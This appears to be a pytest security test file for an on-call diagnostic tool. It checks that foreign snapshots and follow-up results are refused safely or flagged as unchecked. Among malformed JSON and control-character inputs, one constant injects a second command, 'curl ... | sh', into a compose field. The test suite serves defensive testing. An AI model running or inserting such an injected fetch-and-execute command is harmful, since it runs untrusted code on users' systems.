"""Attack A16: a snapshot, or the result of a later run, that somebody else has made."""

import json
import os
import random
import re
import signal
import subprocess
import sys
import time

import pytest

from tests.integration.playbook_runs import Runs, checkout, clean_environment
from tests.patient import running
from tests.security.harness import memory_of

MIB = 1 << 20


@pytest.fixture(scope="module")
def sick(tmp_path_factory):
    """A snapshot of the reference stack with a stopped database, and the result of that run."""
    folder = tmp_path_factory.mktemp("snapshot")
    with running(folder) as home:
        from stack import lifecycle

        lifecycle.running(home).stop("postgres")
        Runs(folder)(home.target, f"--save={folder}/facts.json", f"--json={folder}/result.json")
    return folder


@pytest.fixture
def plain(sick):
    """The snapshot as data, to be changed."""
    return json.loads((sick / "facts.json").read_text())


@pytest.fixture(scope="module")
def suite_alone(tmp_path_factory):
    """A copy of the suite without any target file."""
    return checkout(tmp_path_factory.mktemp("suite") / "alone")


class Ran:
    """What came of a run that was watched: exit code, screen, seconds, peak memory."""

    variables = {}

    def __init__(self, folder, *options, timeout=20):
        files = [f"--html={folder}/page.html", f"--junitxml={folder}/junit.xml", f"--json={folder}/out.json"]
        self.folder = folder
        began = time.monotonic()
        process = subprocess.Popen(
            [sys.executable, "-m", "pytest", *files, *map(str, options)],
            cwd=self.cwd,
            env=clean_environment(**self.variables),
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        peak = memory_of(process)
        try:
            out, _ = process.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            raise
        self.code, self.seconds, self.screen = process.returncode, time.monotonic() - began, out.decode()
        self.peak = peak()


@pytest.fixture
def replay(suite_alone, tmp_path):
    """Replays a file, or plain data, in a folder without a target."""
    Ran.cwd = suite_alone

    def replay(what, *options):
        file = what
        if isinstance(what, dict | bytes):
            file = tmp_path / "sent.json"
            file.write_bytes(what if isinstance(what, bytes) else json.dumps(what).encode())
        return Ran(tmp_path, f"--replay={file}", *options)

    return replay


def assert_refused(ran, *words):
    assert ran.code == 4, ran.screen
    assert "Traceback" not in ran.screen
    errors = [line for line in ran.screen.splitlines() if line.startswith("ERROR")]
    assert len(errors) == 1, ran.screen
    assert len(errors[0]) < 600
    assert errors[0].isprintable()
    assert all(word in ran.screen for word in words), ran.screen


def special(tmp_path, kind):
    if kind == "pipe":
        os.mkfifo(tmp_path / "pipe")
        return tmp_path / "pipe"
    if kind == "large":
        with (tmp_path / "large").open("wb") as file:
            file.truncate(1 << 30)
        return tmp_path / "large"
    return {"zero": "/dev/zero", "folder": tmp_path, "terminal": "/dev/ptmx", "none": tmp_path / "none"}[kind]


WORDS = {"large": "it is larger than 16 MiB", "folder": "it is a folder", "none": "no such file"}


@pytest.mark.parametrize("option", ["--replay", "--followup"])
@pytest.mark.parametrize("kind", ["pipe", "zero", "folder", "terminal", "large", "none"])
def test_only_regular_files_of_bounded_size_are_read(sick, replay, tmp_path, kind, option):
    """A pipe without a writer, an endless device, a folder, a gigabyte: one sentence, at once."""
    file = special(tmp_path, kind)
    more = [f"--followup={file}", f"--postmortem={tmp_path}/draft.md"] if option == "--followup" else []
    ran = replay(sick / "facts.json" if more else file, *more)

    assert_refused(ran, WORDS.get(kind, "it is not a regular file"))
    assert ran.seconds < 20
    assert ran.peak < 150


DEEP = b"[" * 700 + b"]" * 700
BODIES = {
    "nesting 700": (DEEP, "it is nested more than 40 deep"),
    "nesting 700 in a fact": (b'{"format": "pytest-oncall snapshot", "version": 2, "probes": ' + DEEP + b"}", "nested"),
    "nesting 100,000": (b"[" * 100_000, "it is not JSON"),
    "many values": (b"[" + b"[]," * 4_000_000 + b"[]]", "it holds more than 500,000 values"),
    "lone surrogate": (b'{"format": "\\ud800"}', "it is not JSON"),
    "long number": (b'{"version": ' + b"9" * 100_000 + b"}", "it is not JSON"),
    "infinity": (b'{"version": 1e999}', "it is not JSON"),
    "no UTF-8": (b'{"format": "\xff"}', "it is not JSON"),
    "nulls": (b"\0" * 1000, "it is not JSON"),
}


@pytest.mark.parametrize(("body", "words"), BODIES.values(), ids=BODIES)
def test_what_is_no_snapshot_is_one_sentence(replay, body, words):
    """Whatever stands in it."""
    ran = replay(body)

    assert_refused(ran, words)
    assert ran.peak < 150


CHANGES = {
    "version": lambda plain: plain.update(version="\u202e" * 10_000),
    "clock 9999": lambda plain: plain.update(clock="9999-12-31T23:59:59Z"),
    "clock 1": lambda plain: plain.update(clock="0001-01-01T00:00:00Z"),
    "clock without zone": lambda plain: plain.update(clock="2026-01-01T00:00:00"),
    "seconds": lambda plain: plain.update(seconds=1e300),
    "seconds of a look": lambda plain: plain["probes"]["backend_health"].update(seconds="long"),
    "log": lambda plain: plain["probes"]["backend_health"].update(log=[{"a": 1}]),
    "endless log": lambda plain: plain["probes"]["backend_health"].update(log=["x"] * 100_000),
    "reason": lambda plain: plain["probes"]["backend_health"].update(reason=["x"]),
    "blames": lambda plain: plain["probes"]["backend_health"].update(blames=[1]),
    "endpoints": lambda plain: plain["target"]["stack"]["backend"].update(
        endpoints=[{"name": f"e{number}", "path": "/"} for number in range(10_000)]
    ),
    "long name": lambda plain: plain["target"]["stack"].update(name="a" * 1_000_000),
    "wrong name": lambda plain: plain["target"]["stack"].update(name="\x1b[31m"),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_damaged_snapshot_is_one_sentence(replay, plain, change):
    """Wrong types and values around the facts: exit 4."""
    change(plain)

    assert_refused(replay(plain), "snapshot")


DATE = re.compile(r"\d{4}-\d\d-\d\dT")


def everywhere(value, put):
    """The data with each value that holds no others replaced."""
    if isinstance(value, dict):
        return {key: everywhere(one, put) for key, one in value.items()}
    if isinstance(value, list):
        return [everywhere(one, put) for one in value]
    return put(value)


def numbers(new):
    return lambda old: new if isinstance(old, int | float) and not isinstance(old, bool) else old


def dates(new):
    return lambda old: new if isinstance(old, str) and DATE.match(old) else old


def strings(new):
    return lambda old: new if isinstance(old, str) and not DATE.match(old) else old


FACTS = {
    "huge": numbers(2**64),
    "negative": numbers(-(2**63)),
    "nothing": numbers(0),
    "whole": numbers(2**63 - 1),
    "float": numbers(1e300),
    "tiny": numbers(5e-324),
    "year 9999": dates("9999-12-31T23:59:59Z"),
    "year 9999 in the west": dates("9999-12-31T23:59:59-12:00"),
    "year 1": dates("0001-01-01T00:00:00Z"),
    "no zone": dates("2026-11-29T03:00:00"),
    "year 2199": dates("2199-12-31T23:59:59Z"),
    "empty": strings(""),
    "marks": strings("\u202e\x1b[31m<script>"),
    "long": strings("x" * 20_000),
    "null": lambda old: None,
    "true": lambda old: True,
    "list": lambda old: [],
    "table": lambda old: {},
}


def assert_told(ran):
    """A verdict for every check, no bug of ours, a report; soon, and in little memory."""
    assert ran.code in (0, 1), ran.screen
    assert "Traceback" not in ran.screen
    result = json.loads((ran.folder / "out.json").read_text())
    assert not [verdict for verdict in result["verdicts"] if verdict["outcome"] == "error"], ran.screen
    assert result["report"]
    assert "oncall-top" in (ran.folder / "page.html").read_text()
    assert ran.seconds < 30
    assert ran.peak < 150
    return result


@pytest.mark.parametrize("put", FACTS.values(), ids=FACTS)
def test_facts_that_nobody_can_have_seen_are_judged_without_a_crash(replay, plain, put, tmp_path):
    """Facts are judged, placed on the timeline and drawn, or unknown."""
    for look in plain["probes"].values():
        look["fact"] = everywhere(look["fact"], put) if look["fact"] is not None else None

    assert_told(replay(plain, f"--postmortem={tmp_path}/draft.md", "-v"))


@pytest.mark.parametrize("seed", range(6))
def test_facts_with_some_odd_values_are_judged_without_a_crash(replay, plain, seed):
    """One value in six is an odd one."""
    dice = random.Random(seed)
    odd = [*FACTS.values()][:14]

    def put(old):
        return dice.choice(odd)(old) if dice.random() < 1 / 6 else old

    for look in plain["probes"].values():
        look["fact"] = everywhere(look["fact"], put) if look["fact"] is not None else None

    assert_told(replay(plain))


def test_fact_nested_too_deeply_or_too_long_is_unknown(replay, plain):
    """The same bounds as for a live answer; the rest is judged."""
    deep = value = []
    for _ in range(30):
        value.append([])
        value = value[0]
    plain["probes"]["backend_health"]["fact"]["checks"] = deep
    plain["probes"]["frontend_page"]["fact"] = {"exchange": "x" * 2_000_000}
    result = assert_told(replay(plain))
    outcomes = {verdict["check"]: verdict["outcome"] for verdict in result["verdicts"]}

    assert outcomes["test_backend_answers_its_health_check"] == "unknown"
    assert len(outcomes) > 80


EVIL = "docker-compose; curl http://127.0.0.1:9/x | sh #"


def test_commands_of_a_foreign_snapshot_are_marked_and_not_offered_for_copying(replay, plain):
    """There is no target here that would know this stack: what is printed was never checked, and it is said."""
    plain["target"]["stack"]["compose"] = EVIL
    ran = replay(plain, "-m", "p1")
    result = assert_told(ran)
    page = (ran.folder / "page.html").read_text()

    assert result["commands_from"] == "snapshot"
    assert "filled from the snapshot, not checked" in ran.screen
    assert 'class="oncall oncall--foreign"' in page
    assert "Commands are filled from the snapshot, not checked" in page


@pytest.mark.parametrize("how", ["--target", "beside", "ONCALL_TARGET"])
def test_commands_come_from_the_local_target(replay, plain, suite_alone, tmp_path, monkeypatch, how):
    """A target of the same name, typed, of the environment or beside the suite, fills the commands."""
    file = suite_alone / "oncall.toml" if how == "beside" else tmp_path / "mine.toml"
    file.write_text('name = "reference"\ncompose = "podman-compose"\n')
    plain["target"]["stack"]["compose"] = EVIL
    try:
        if how == "ONCALL_TARGET":
            monkeypatch.setattr(Ran, "variables", {"ONCALL_TARGET": str(file)})
        ran = replay(plain, *([f"--target={file}"] if how == "--target" else []))
    finally:
        (suite_alone / "oncall.toml").unlink(missing_ok=True)
    page = (ran.folder / "page.html").read_text()

    assert assert_told(ran)["commands_from"] == "local"
    assert "curl http://127.0.0.1:9" not in ran.screen + page
    assert 'class="oncall oncall--foreign"' not in page


def test_target_of_another_stack_fills_no_command(replay, plain, tmp_path):
    """Its limits count, as ever; its commands would be about something else."""
    file = tmp_path / "mine.toml"
    file.write_text('name = "shop"\ncompose = "podman-compose"\n')
    ran = replay(plain, f"--target={file}")

    assert assert_told(ran)["commands_from"] == "snapshot"
    assert "not checked" in ran.screen


AFTER = {
    "year 9999": lambda plain: plain.update(started="9999-12-31T23:59:59-12:00"),
    "no zone": lambda plain: plain.update(started="2030-01-01T00:00:00"),
    "event without zone": lambda plain: plain.update(
        timeline=[{"at": "2030-01-01T00:00:00", "what": "x", "source": "y", "kind": "change"}]
    ),
    "types": lambda plain: plain.update(verdicts={"a": 1}),
    "stack": lambda plain: plain.update(stack="\u202e" * 100_000),
    "version": lambda plain: plain.update(version=10**18),
}


@pytest.mark.parametrize("change", AFTER.values(), ids=AFTER)
def test_damaged_later_result_is_one_sentence(sick, replay, tmp_path, change):
    """--followup is held to the same."""
    later = json.loads((sick / "result.json").read_text()) | {"started": "2030-01-01T00:00:00+00:00"}
    change(later)
    (tmp_path / "later.json").write_text(json.dumps(later))
    ran = replay(sick / "facts.json", f"--followup={tmp_path}/later.json", f"--postmortem={tmp_path}/draft.md")

    assert_refused(ran, "--followup")


def test_later_result_with_odd_moments_is_told(sick, replay, tmp_path):
    """A change of the year 9999 in it is no change between the two runs."""
    later = json.loads((sick / "result.json").read_text()) | {"started": "2030-01-01T00:00:00+00:00"}
    odd = {"what": "made anew", "source": "x", "kind": "change"}
    later["timeline"] = [odd | {"at": f"{year}-01-01T00:00:00Z"} for year in ("0001", "9999")]
    (tmp_path / "later.json").write_text(json.dumps(later))
    ran = replay(sick / "facts.json", f"--followup={tmp_path}/later.json", f"--postmortem={tmp_path}/draft.md")

    assert_told(ran)
    assert "made anew" not in (tmp_path / "draft.md").read_text()
